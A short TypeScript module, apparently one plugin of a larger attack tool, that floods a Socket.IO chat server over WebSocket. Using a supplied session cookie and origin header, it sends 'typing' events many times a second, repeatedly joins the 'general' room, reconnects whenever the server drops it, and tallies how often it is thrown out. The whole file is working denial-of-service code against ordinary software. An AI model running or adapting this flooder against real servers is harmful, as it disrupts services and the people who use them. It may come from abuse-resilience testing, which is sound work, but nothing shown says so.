import { WebSocket } from 'ws'
import type { Attack, Target } from './main.ts'

const TICK_MS = 10

/** Types `count` times a second, and joins a room again and again; comes back whenever it is thrown out. */
export const flood: Attack = (target) => {
  const seen = { typed: 0, joined: 0, 'thrown out': 0, 'times in': 0 }
  let over = false
  void (async () => {
    while (!over) await once(target, seen, () => over)
  })()
  return () => {
    over = true
    return seen
  }
}

type Seen = { typed: number; joined: number; 'thrown out': number; 'times in': number }

function once({ host, port, cookie, from, count }: Target, seen: Seen, over: () => boolean): Promise<void> {
  return new Promise((resolve) => {
    const headers = { cookie, origin: `http://${host}:${port}` }
    const address = `ws://${host}:${port}/socket.io/?EIO=4&transport=websocket`
    const socket = new WebSocket(address, { headers, perMessageDeflate: false, localAddress: from })
    let timer: NodeJS.Timeout | undefined
    const rage = () => {
      if (over()) return socket.terminate()
      for (let n = 0; n < (count * TICK_MS) / 1000; n++) socket.send('42["typing",{}]')
      seen.typed += (count * TICK_MS) / 1000
      if (seen.joined++ < 1000) socket.send('42["join_room",{"room":"general"}]')
    }
    socket.on('error', () => {})
    socket.on('unexpected-response', () => socket.terminate())
    socket.on('open', () => socket.send('40'))
    socket.on('message', (data) => {
      if (!String(data).includes('"connected"')) return
      seen['times in'] += 1
      socket.send('42["join_room",{"room":"general"}]')
      timer = setInterval(rage, TICK_MS)
    })
    socket.on('close', () => {
      clearInterval(timer)
      if (timer) seen['thrown out'] += 1
      setTimeout(resolve, 100)
    })
  })
}
